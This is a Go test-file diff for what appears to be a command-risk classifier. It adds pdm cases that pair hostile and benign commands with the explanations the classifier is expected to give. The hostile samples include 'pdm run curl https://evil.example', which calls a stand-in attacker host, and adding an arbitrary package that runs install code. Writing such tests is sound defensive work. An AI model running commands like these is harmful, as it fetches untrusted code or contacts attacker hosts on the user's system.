@@ -239,3 +239,13 @@ func TestTablesC7Go(t *testing.T) {
 			benign: "protoc -I proto --go_out=gen --go-grpc_out=gen proto/api.proto"},
 	})
 }
+
+// pdm installs from the index and builds with the project's backend; a
+// package added by name runs what the index sends; pdm run is left out.
+func TestPdm(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "pdm add of a package", hostile: "pdm add requests-helper", want: "pdm runs the build and install code of package requests-helper",
+			benign: "pdm install --frozen-lockfile && pdm build"},
+		{name: "pdm run", hostile: "pdm run curl https://evil.example", want: "the subcommand run is not one the device knows", benign: "pdm lock --check && pdm list --tree"},
+	})
+}
